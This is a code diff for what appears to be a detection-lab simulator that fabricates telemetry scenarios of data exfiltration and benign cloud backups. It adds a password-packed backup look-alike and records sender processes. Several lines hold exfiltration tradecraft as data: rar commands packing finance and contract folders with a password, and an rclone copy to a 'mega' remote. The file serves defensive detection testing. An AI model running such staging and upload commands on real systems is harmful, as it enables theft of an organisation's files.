@@ -1,6 +1,10 @@
 package simulate
 
-import "netcase"
+import (
+	"fmt"
+
+	"netcase"
+)
 
 func uploadStories() []storyline {
 	return []storyline{
@@ -8,6 +12,7 @@ func uploadStories() []storyline {
 		{name: "upload-drip", doc: "a desk sends a hundred megabytes an hour to a rare address for a day", hypothesis: Exfiltration, days: 8, formats: sizedFormats, tell: uploadDrip},
 		{name: "upload-staged", doc: "files are packed with a password and then sent out, the packing is on record", hypothesis: Exfiltration, days: 8, formats: sizedFormats, processes: true, tell: uploadStaged},
 		{name: "backup-cloud", doc: "every night a machine sends its copy to the same address, and this night as well", hypothesis: Misconfigured, days: 8, formats: sizedFormats, tell: backupCloud},
+		{name: "backup-packed", doc: "the same, and the files are packed with a password before each copy", hypothesis: Misconfigured, days: 8, formats: sizedFormats, processes: true, tell: backupPacked},
 	}
 }
 
@@ -22,13 +27,25 @@ func (l *lab) send(at netcase.Time, m *machine, to int, n int64) conn {
 	return c
 }
 
-func (l *lab) upload(m *machine, hours []int, each int64) {
+// provenWhereRare says that the minimum evidence of a claim is in the telemetry: a rare
+// destination is a part of it, and only where the machines of the office call outside as
+// well do the inputs show that it is rare.
+func (l *lab) provenWhereRare(claim string) {
+	if !l.ground.Silent {
+		l.labels.Proven = append(l.labels.Proven, claim)
+	}
+}
+
+// sender is the program that an upload is sent by, where a sensor on the machine sees it.
+type sender struct{ image, line string }
+
+func (l *lab) upload(m *machine, hours []int, each int64, by sender) {
 	to := l.stranger()
 	first := len(l.conns)
 	for _, h := range hours {
 		for range 3 {
 			c := l.send(l.millis(l.at(h, 0), 40*netcase.Minute), m, -1, each/3)
-			c.dst = to
+			c.dst, c.image, c.line = to, by.image, by.line
 			l.add(c)
 		}
 	}
@@ -36,14 +53,14 @@ func (l *lab) upload(m *machine, hours []int, each int64) {
 	l.labels.Claims, l.labels.Severity = []string{"exfiltration"}, [2]string{sevInfo, sevHigh}
 }
 
-func uploadNight(l *lab) { l.upload(l.files, []int{2, 3}, 4_000_000_000) }
+func uploadNight(l *lab) { l.upload(l.files, []int{2, 3}, 4_000_000_000, sender{}) }
 
 func uploadDrip(l *lab) {
 	var hours []int
 	for h := range 20 {
 		hours = append(hours, h+2)
 	}
-	l.upload(l.clients[3], hours, 100_000_000)
+	l.upload(l.clients[3], hours, 100_000_000, sender{})
 }
 
 func uploadStaged(l *lab) {
@@ -51,9 +68,24 @@ func uploadStaged(l *lab) {
 	for _, line := range []string{`rar.exe a -hpSecret -m5 C:\ProgramData\a.rar D:\Finance\*`, `rar.exe a -hpSecret -m5 C:\ProgramData\b.rar D:\Contracts\*`} {
 		l.does(&at, l.files, "administrator", act{kind: actStarted, image: `C:\ProgramData\rar.exe`, line: line, parent: shellPath})
 	}
-	l.does(&at, l.files, "administrator", act{kind: actStarted, image: `C:\ProgramData\rclone.exe`, line: `rclone.exe copy C:\ProgramData\a.rar mega:x --transfers 8`, parent: shellPath})
-	l.upload(l.files, []int{2, 3}, 5_000_000_000)
-	l.labels.Proven, l.labels.Severity = []string{"exfiltration"}, [2]string{sevHigh, sevCritical}
+	by := sender{`C:\ProgramData\rclone.exe`, `rclone.exe copy C:\ProgramData\a.rar mega:x --transfers 8`}
+	l.does(&at, l.files, "administrator", act{kind: actStarted, image: by.image, line: by.line, parent: shellPath})
+	l.upload(l.files, []int{2, 3}, 5_000_000_000, by)
+	l.labels.Severity = [2]string{sevInfo, sevCritical}
+	if l.provenWhereRare("exfiltration"); len(l.labels.Proven) > 0 {
+		l.labels.Severity[0] = sevHigh
+	}
+}
+
+// backupPacked is the look-alike of upload-staged: a job that packs with a password every
+// night before it sends.
+func backupPacked(l *lab) {
+	const program = `C:\Program Files\7-Zip\7z.exe`
+	for d := range l.days {
+		at := l.start + netcase.Time(d)*netcase.Day + 20*netcase.Minute
+		l.does(&at, l.files, "backup", act{kind: actStarted, image: program, line: fmt.Sprintf(`7z.exe a -pX -mhe=on E:\night-%d.7z D:\Data`, d), parent: shellPath})
+	}
+	backupCloud(l)
 }
 
 func backupCloud(l *lab) {
